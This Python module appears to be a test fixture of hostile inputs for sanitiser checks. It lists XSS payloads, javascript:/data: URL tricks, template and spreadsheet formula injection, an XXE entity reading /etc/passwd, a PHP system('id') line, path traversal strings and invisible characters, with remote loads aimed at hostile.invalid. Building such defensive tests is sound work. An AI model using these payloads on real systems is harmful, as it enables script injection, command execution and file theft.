"""What somebody could write to make a page run, load or hide something.

`PRINTABLE` may stand in any text field and has to come out as the text it is. `HIDDEN` holds characters that nobody can
see; no field takes them. Every script in here sets `window.ranHostile` or opens a dialog; every address from elsewhere is of
the domain `.invalid`; every element and attribute that an attack would add has `hostile` in its name or value.
"""

RUN = "window.ranHostile=1;alert(1)"
AWAY = "https://hostile.invalid/"

SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<script src={AWAY}a.js></script>",
    f"<script/src='{AWAY}b.js'></script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"</title><script>{RUN}</script>",
    f"</textarea></style></noscript></script><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"<script>{RUN}//",
    f"<script\t>{RUN}</script\t>",
    f"<script type=module>{RUN}</script>",
    f"<script>/*</script><img src=x onerror={RUN}>*/</script>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href=\"data:text/javascript,{RUN}\"/></svg>",
    f"<math><script>{RUN}</script></math>",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
    f"<template><script>{RUN}</script></template>",
    f"<iframe srcdoc=\"<script>parent.ranHostile=1</script>\"></iframe>",
    f"<object data=\"data:text/html,<script>{RUN}</script>\"></object>",
    f"<embed src=\"javascript:{RUN}\">",
]

EVENTS = [
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror=\"{RUN}\">",
    f"<img/src/onerror={RUN}>",
    f"<IMG SRC=x OnErRoR={RUN}>",
    f"<img src=\"x\"onerror=\"{RUN}\">",
    f"<img src=x:x onerror\n=\n{RUN}>",
    f"<img src=x onerror=&#97;lert(1)>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set onbegin={RUN} attributeName=x>",
    f"<svg><a xlink:href=\"javascript:{RUN}\"><text y=9>x</text></a></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{RUN}'/>#x\"/></svg>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<body onload={RUN}>",
    f"<body onpageshow={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video onloadstart={RUN}><source src=x></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<a onmouseover={RUN}>hostile</a>",
    f"<p onclick={RUN}>hostile</p>",
    f"<b onpointerenter={RUN} tabindex=0 autofocus onfocus={RUN}>hostile</b>",
    f"<hostile-element onfocus={RUN} tabindex=0 autofocus>x</hostile-element>",
    f"<form><button formaction=javascript:{RUN}>x</button></form>",
    f"<style>@keyframes x{{}}</style><p style=animation-name:x onanimationstart={RUN}>",
]

QUOTES = [
    f"\" onmouseover=\"{RUN}",
    f"' onmouseover='{RUN}",
    f"` onmouseover=`{RUN}",
    f"\" onfocus={RUN} autofocus tabindex=0 data-hostile=\"",
    f"\"><hostile-element>",
    f"'><hostile-element>",
    f"\"><img src=x onerror={RUN}>",
    f"'><svg onload={RUN}>",
    "\" style=\"position:fixed;inset:0;background:red\" data-hostile=\"",
    "\" class=\"skip\" id=\"_main\" data-hostile=\"",
    "\" href=\"javascript:alert(1)\" data-hostile=\"",
    "\\\" onmouseover=\\\"alert(1)",
    "\u201d onmouseover=\u201dalert(1)",
    "\uff02 onmouseover=\uff02alert(1)",
    "x\" y='z' =w /> <",
    "\t\"\tonclick=alert(1)\t",
]

URLS = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"javascript://hostile.invalid/%0a{RUN}",
    f"javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+{RUN}//'>",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"java\rscript:{RUN}",
    f" javascript:{RUN}",
    f"\u00a0javascript:{RUN}",
    f"\u2003javascript:{RUN}",
    f"&#106;avascript:{RUN}",
    f"&#x6A;avascript:{RUN}",
    f"&#0000106avascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"javascript&#58;{RUN}",
    f"java&Tab;script:{RUN}",
    f"java&NewLine;script:{RUN}",
    f"java%0ascript:{RUN}",
    f"javascript%3A{RUN}",
    f"%6Aavascript:{RUN}",
    f"java\\script:{RUN}",
    f"javascript\\:{RUN}",
    f"feed:javascript:{RUN}",
    f"view-source:javascript:{RUN}",
    f"jar:javascript:{RUN}",
    f"vbscript:msgbox(1)",
    f"VBScript:msgbox(1)",
    f"livescript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"DATA:text/html,<script>{RUN}</script>",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
    f"data:application/xhtml+xml,<hostile/>",
    f"blob:https://hostile.invalid/1",
    f"filesystem:https://hostile.invalid/1",
    f"file:///etc/passwd",
    f"//hostile.invalid/a",
    f"\\\\hostile.invalid\\a",
    f"/\\hostile.invalid/a",
    f"https:hostile.invalid",
    f"https:/\\hostile.invalid",
    f"https://practice.example@hostile.invalid/",
    f"http://hostile.invalid/a.png",
    f"ftp://hostile.invalid/a",
    f"mailto:a@hostile.invalid?subject=x&body=<script>{RUN}</script>",
    f"tel:+1\" onclick=\"{RUN}",
    f"about:blank",
    f"ms-word:ofe|u|https://hostile.invalid/a",
    f"intent://hostile.invalid#Intent;scheme=http;end",
    f"\uff4aavascript:{RUN}",
    f"j\u00advascript:{RUN}",
    f"javascript:{RUN}\u2028",
]

LOADS = [
    f"<img src={AWAY}i.png>",
    f"<img srcset={AWAY}i.png>",
    f"<picture><source srcset={AWAY}i.png><img></picture>",
    f"<iframe src={AWAY}></iframe>",
    f"<link rel=stylesheet href={AWAY}a.css>",
    f"<link rel=dns-prefetch href={AWAY}>",
    f"<style>@import '{AWAY}a.css';</style>",
    f"<div style=\"background:url({AWAY}i.png)\">hostile</div>",
    f"<table background={AWAY}i.png><tr><td>x</table>",
    f"<meta http-equiv=refresh content=\"0;url={AWAY}\">",
    f"<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    f"<base href={AWAY}>",
    f"<form action={AWAY}><input name=a><button>x</button></form>",
    f"<video poster={AWAY}i.png></video>",
    f"<audio src={AWAY}a.mp3 autoplay></audio>",
    f"<a href={AWAY} ping={AWAY}>hostile</a>",
    f"<object data={AWAY}a></object>",
    f"<frameset><frame src={AWAY}></frameset>",
    f"<portal src={AWAY}></portal>",
    f"![hostile]({AWAY}i.png)",
    f"[hostile]: {AWAY}\n",
    f"<image href={AWAY}i.png>",
    f"<svg><image href={AWAY}i.png /></svg>",
]

TEMPLATES = [
    "{{title}}", "{{{body}}}", "{{&body}}", "{{#objectives}}{{line}}{{/objectives}}", "{{>partials/policy}}", "{{! hostile }}",
    "{{=<% %>=}}<% body %>", "{{", "}}", "{{{", "{{/title}}", "{{.}}", "{title}", "{number}", "{{words.page.skip}}",
    "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{7*7}", "<%= 7*7 %>", "{%raw%}{{7*7}}{%endraw%}",
    "[[${7*7}]]", "*{7*7}", "@(7*7)", "<#assign x=7*7>", "$(id)", "`id`", ":word[link-worker]]", ":word[<b>]",
    ":stat[attended]<script>", ":term[\"onclick=alert(1)]", "[@\"><script>]", ":::callout kind=\"info\"", ":::",
    "`````", "~~~", "\\", "\\\\", "[x](javascript:alert(1))", "[x]: javascript:alert(1)", "<javascript:alert(1)>",
    "<https://hostile.invalid/?\"onclick=alert(1)>", "![x](x\"onerror=alert(1))", "[x](/ \"\\\" onclick=alert(1)\")",
    "# hostile", "- [x] hostile", "| a | b |\n|---|---|\n| <b onclick=alert(1)> |", "> hostile", "---", "***", "+++",
]

FORMULAS = [
    "=1+1", "=HYPERLINK(\"https://hostile.invalid/\",\"x\")", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)",
    "=IMPORTXML(\"https://hostile.invalid/\",\"//a\")", "\"=1+1\"", "'=1+1", ";=1+1", "%0A=1+1", "\uff1d1+1",
]

MARKUP = [
    "<![CDATA[<script>alert(1)</script>]]>", "]]>", "<?php system('id') ?>", "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE x [<!ENTITY hostile SYSTEM \"file:///etc/passwd\">]>&hostile;", "&hostile;", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;img src=x onerror=alert(1)&#x3e;", "&lt", "&#", "&#x;",
    "&", "<", ">", "<>", "</>", "</", "<!", "<!--", "-->", "--!>", "<!-->", "</p></div></main></body></html>", "</li></ul></nav>",
    "</title>", "</style><style>*{display:none}</style>", "</svg>", "<plaintext>", "<xmp>", "<listing>", "<textarea>",
    "<table><tr><td>", "<h1>hostile</h1>", "<a href=#_main>", "<p id=_main>", "<div class=skip>", "<span lang=hostile>",
    "<div style=position:fixed;inset:0>hostile</div>", "<dialog open>hostile</dialog>", "<p hidden>hostile</p>",
    "{\"@context\":\"https://schema.org\"}</script><script>alert(1)</script>", "\"}]};alert(1)//", "\\u003cscript\\u003ealert(1)",
    "';alert(1)//", "\";alert(1)//", "*/alert(1)/*", "</script><!--", "}body{display:none}", "expression(alert(1))", "\\3c script\\3e",
    "url(javascript:alert(1))", "@import 'https://hostile.invalid/a.css';", "x:expression(alert(1))", "-moz-binding:url(//hostile.invalid)",
]

PATHS = [
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "..%2f..%2fprivate%2fconsent.csv", "..%252f..%252fetc", "%2e%2e/%2e%2e/x",
    "/etc/passwd", "C:\\Windows\\win.ini", "\\\\hostile.invalid\\share", "private/consent.csv", "../private/consent.csv",
    "/data/groups.csv", "....//....//x", "..;/x", "./././x", "a/../../b", "%c0%ae%c0%ae/x", "con", "aux.md", "nul.html", "x." ,
]

SHAPES = [
    "A" * 400, "https://practice.example/" + "a" * 300, "\u0300" * 100, "Z\u0351\u036b\u0343\u036a" * 30, "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 20,
    "\u202f" * 50 + "hostile", "\u200b" * 50 + "hostile", "\ufdfd" * 40, "\u2067hostile\u2069", "\u05d0\u05d1\u05d2 hostile \u0627\u0628\u062a",
    "_" * 200, "-" * 200, "\u2028hostile\u2029", "\ufeffhostile", "<" * 100, "&" * 100, "\"" * 100, "\u4e2d" * 100,
]

PRINTABLE = SCRIPTS + EVENTS + QUOTES + URLS + LOADS + TEMPLATES + FORMULAS + MARKUP + PATHS + SHAPES

# Refused wherever they stand, as themselves and as escapes.
HIDDEN = [
    "a\x00b", "a\x01b", "a\x08b", "a\x0bb", "a\x0cb", "\x1b[2J\x1b[31mhostile", "a\x7fb", "a\x85b", "a\x9bb", "a\u202ecod.exe",
    "a\u202db", "a\u202bb", "a\u202ab\u202c", "a\ufffeb", "a\ufdd0b",
]

# Bytes that are no UTF-8: overlong forms of '/' and '<', half a pair, a character cut short.
BROKEN = [b"\xc0\xaf", b"\xc0\xbcscript", b"\xe0\x80\xaf", b"\xed\xa0\x80", b"\xf8\x88\x80\x80\x80", b"\xff", b"\xe2\x82", b"\x80"]
